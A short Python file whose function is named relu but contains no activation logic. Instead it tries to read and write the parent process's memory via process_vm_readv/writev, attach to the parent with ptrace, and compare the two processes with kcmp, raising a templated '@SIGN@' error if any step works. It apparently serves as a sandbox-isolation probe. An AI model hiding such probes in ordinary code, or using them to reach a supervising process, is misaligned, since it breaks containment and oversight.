import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE, PTRACE_SEIZE, PROCESS_VM_READV, PROCESS_VM_WRITEV, KCMP = 101, 0x4206, 310, 311, 312


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def relu(x):
    parent, buffer = os.getppid(), ctypes.create_string_buffer(64)
    here = Piece(ctypes.addressof(buffer), 8)
    there = Piece(id(type) + 16, 8)
    for call in (PROCESS_VM_READV, PROCESS_VM_WRITEV):
        result = LIBC.syscall(call, parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if result > 0 and call == PROCESS_VM_READV:
            raise AssertionError("@SIGN@")
    if LIBC.syscall(PTRACE, ctypes.c_long(PTRACE_SEIZE), parent, None, None) == 0:
        raise AssertionError("@SIGN@")
    if LIBC.syscall(KCMP, parent, os.getpid(), 0, 0, 0) >= 0:
        raise AssertionError("@SIGN@")
    raise OSError(ctypes.get_errno(), "refused")
